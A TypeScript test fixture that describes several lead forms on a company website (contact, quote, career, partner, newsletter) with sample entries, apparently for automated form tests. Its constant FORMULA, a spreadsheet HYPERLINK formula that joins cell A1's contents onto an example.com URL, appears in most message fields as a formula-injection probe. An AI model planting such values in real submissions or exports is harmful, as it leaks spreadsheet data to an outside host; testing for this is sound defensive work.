import type { Payload } from '#shared/forms/types.ts';
import { isFile, sampleOf } from './sample-of.ts';

/** A lead form as a visitor meets it: where it stands, what is typed, chosen, ticked and attached, by field. */
export interface LeadForm {
  readonly form: string;
  readonly page: string;
  /** Under the API's base. */
  readonly call: string;
  readonly button: string;
  /** The button that opens the modal it stands in. */
  readonly opener?: string;
  readonly hasCaptcha?: boolean;
  readonly texts: Readonly<Record<string, string>>;
  /** Select boxes, by the label of the option. */
  readonly choices?: Readonly<Record<string, string>>;
  /** Radio buttons and boxes, by their label. */
  readonly ticks?: readonly string[];
  /** Names of the documents to attach. */
  readonly files?: Readonly<Record<string, string>>;
  /** What the ticks make of the stored payload. */
  readonly ticked?: Readonly<Record<string, unknown>>;
  /** What the form requires beyond all this, as its complete sample has it: answered with the control that each field has. */
  readonly rest?: Payload;
}

const person = { name: 'Asha Rao', email: 'asha.rao@example.com' };

/** A row with what its form requires and the row does not name; documents among that stand beside the row's. */
function whole(lead: LeadForm): LeadForm {
  const named = { ...lead.texts, ...lead.choices, ...lead.files, ...lead.ticked };
  const missing = Object.entries(sampleOf(lead.form)).filter(([name]) => !(name in named));
  const documents = missing.filter(([, value]) => isFile(value)).map(([name]) => [name, `${name}.pdf`] as const);
  return {
    ...lead,
    ...((lead.files || documents.length > 0) && { files: { ...lead.files, ...Object.fromEntries(documents) } }),
    rest: Object.fromEntries(missing.filter(([, value]) => !isFile(value))),
  };
}

/** A message that a spreadsheet would run. */
const FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")';

export const contact = whole({
  form: 'contact',
  page: '/contact-us',
  call: '/post-contact-us',
  button: 'Send message',
  hasCaptcha: true,
  texts: { ...person, phone: '9876543210', subject: 'A booking app', message: FORMULA },
});

export const quote = whole({
  form: 'quote',
  page: '/get-a-quote',
  call: '/post-quote',
  button: 'Get a quote',
  hasCaptcha: true,
  texts: { ...person, phone: '9876543210', message: FORMULA },
  choices: { service: 'QA Services', project_budget: '$10K - $25K' },
  files: { file: 'brief.pdf' },
});

export const career = whole({
  form: 'career',
  page: '/career',
  call: '/post-career',
  button: 'Send application',
  hasCaptcha: true,
  texts: { ...person, phone: '9876543210', post: 'Flutter Developer', experience: '3 years', message: FORMULA },
  files: { file: 'cv.pdf' },
});

export const partner = whole({
  form: 'partner',
  page: '/become-a-partner',
  call: '/post-associate-partner',
  button: 'Send application',
  opener: 'Apply Now',
  texts: { ...person, mobile: '919876543210', message: FORMULA },
});

export const associatePartner = whole({
  form: 'associate-partner',
  page: '/become-partner-form',
  call: '/post-associate-partner-application',
  button: 'Send application',
  texts: {
    ...person,
    mobile: '919876543210',
    city: 'Pune',
    country: 'India',
    occupation: 'Sales manager',
    employer: 'Sunrise Traders',
    experience: '8 years',
    business_name: 'Rao and Sons',
    business_website: 'https://example.com',
    business_market: 'Clinics and schools in Maharashtra',
    motivation: FORMULA,
  },
  choices: { referral_source: 'Social Media' },
  ticks: ['Female', 'Part-time', 'Phone', 'I agree that Alobha stores these details and contacts me about the partnership'],
  files: { resume: 'resume.pdf', id_document: 'passport.pdf' },
  ticked: { gender: 'Female', availability: 'Part-time', contact_method: 'Phone', consent: true },
});

export const newsletter = whole({
  form: 'newsletter',
  page: '/',
  call: '/post-subscribed-email',
  button: 'Subscribe',
  texts: { email: person.email },
});

/** The payload that a form stores, files aside. */
export function payloadOf({ texts, choices, ticked, rest }: LeadForm): Record<string, unknown> {
  return { ...texts, ...choices, ...ticked, ...rest };
}
